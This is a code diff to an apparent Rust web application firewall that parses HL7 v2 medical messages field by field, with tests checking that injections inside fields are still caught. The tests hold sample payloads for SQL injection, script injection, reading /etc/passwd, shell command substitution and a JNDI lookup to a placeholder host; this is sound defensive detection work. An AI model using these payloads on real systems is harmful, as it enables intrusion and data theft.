@@ -1083,6 +1083,11 @@ pub fn value(n: &Normalised) -> Option<Hit> {
 /// [`value`], with the SSRF check only when `urls_are_fetched` (a JSON document's URLs are
 /// mostly identifiers and references, not addresses a backend fetches).
 pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
+    if n.decoded.starts_with("MSH") {
+        if let Some(fields) = hl7_v2_fields(&n.decoded) {
+            return hl7_v2_verdict(fields, urls_are_fetched);
+        }
+    }
     verdict(n, urls_are_fetched)
         .or_else(|| shell_escaped(&n.decoded))
         .or_else(|| comment_split(&n.decoded))
@@ -1227,6 +1232,46 @@ fn escaped_line_breaks(decoded: &str) -> Option<Hit> {
     }
     let lines = decoded.replace("\\n", "\n").replace("\\r", "\r");
     read_again(lines.as_bytes()).filter(|hit| hit.class == Class::Rce)
+}
+
+/// The fields of an HL7 v2 message (`MSH|^~\&|…`: lab results, prescriptions, SS-MIX2's
+/// stored messages in Japan), when the value is one: a receiver splits it at its field,
+/// component, repetition and subcomponent separators and at segment ends, so each field is
+/// a value of its own. Read whole, the separators are shell syntax (`OBX|4|ID|…` pipes to
+/// `id`); read by field, an injection inside one is found as anywhere else. The separators
+/// are the ones the message declares in `MSH`, as a receiver reads them.
+fn hl7_v2_fields(decoded: &str) -> Option<impl Iterator<Item = &str>> {
+    let header = decoded.as_bytes().get(..9)?;
+    let (field, encoding) = (header[3], &header[4..8]);
+    let separator = |b: &u8| b.is_ascii_punctuation() && *b != b'\\';
+    let declared = header.starts_with(b"MSH")
+        && header[8] == field
+        && separator(&field)
+        && encoding[2] == b'\\'
+        && [encoding[0], encoding[1], encoding[3]]
+            .iter()
+            .all(|b| separator(b) && *b != field);
+    if !declared {
+        return None;
+    }
+    let separators = [field, encoding[0], encoding[1], encoding[3], b'\r', b'\n'];
+    Some(decoded.split(move |c: char| u8::try_from(c).is_ok_and(|b| separators.contains(&b))))
+}
+
+/// The first finding in an HL7 v2 message's fields. Apart from [`value_with`], which runs
+/// for every value, so that this rare path does not weigh on it.
+#[cold]
+#[inline(never)]
+fn hl7_v2_verdict<'a>(
+    fields: impl Iterator<Item = &'a str>,
+    urls_are_fetched: bool,
+) -> Option<Hit> {
+    fields.filter(|field| !field.is_empty()).find_map(|field| {
+        value_with(
+            &super::normalise::normalise_str(field, super::normalise::Plus::Literal),
+            urls_are_fetched,
+        )
+    })
 }
 
 /// A second reading of a value rewritten as a backend would take it (`shell_escaped`,
@@ -1624,6 +1669,10 @@ fn include_url(folded: &str) -> Option<Hit> {
         rule: "rfi-120",
         class: Class::Rfi,
     };
+    // Asked of every value: one look at its ends first.
+    if !text.starts_with(b"//") && !matches!(text.last(), Some(b'?' | b'#')) {
+        return None;
+    }
     // A script named by a protocol-relative URL (`//evil.example/shell.txt`): what an
     // include prefixes with its own scheme.
     if let Some(rest) = folded.strip_prefix("//") {
@@ -4585,6 +4634,29 @@ mod tests {
         }
         for attack in ["1 or 1#", "-1 or 1#x", "1 union select 1#", "1 or true#x"] {
             assert!(libinjection_sqli(attack), "{attack}");
+        }
+    }
+
+    /// An HL7 v2 message is read field by field: its separators are no shell syntax, and an
+    /// injection inside a field is still found (R-WAF-1).
+    #[test]
+    fn hl7_v2_messages_are_read_by_field() {
+        let message = "MSH|^~\\&|LAB|HOSP|PHR|APP|20261127||ORU^R01|M1|P|2.5.1\rPID|1||12345^^^HOSP^MR||YAMADA^TARO||19800101|M\rOBX|1|NM|2093-3^Cholesterol^LN||210|mg/dL|<200|H|||F\rOBX|2|ID|11556-8^Oxygen^LN||Y||||||F\rNTE|1||rash & hives; cat allergy";
+        assert_eq!(hit(message), None);
+        // The same text without its `MSH` header is no message: `|ID|` pipes to `id`.
+        assert_eq!(
+            hit(&message[message.find('\r').unwrap() + 1..]),
+            Some("rce")
+        );
+        for (field, class) in [
+            ("' or 1=1--", "sqli"),
+            ("<script>alert(1)</script>", "xss"),
+            ("; cat /etc/passwd", "lfi"),
+            ("$(id)", "rce"),
+            ("${jndi:ldap://x.example/a}", "jndi"),
+        ] {
+            let attack = format!("{message}\rOBX|3|ST|x||{field}");
+            assert_eq!(hit(&attack), Some(class), "{field}");
         }
     }
 
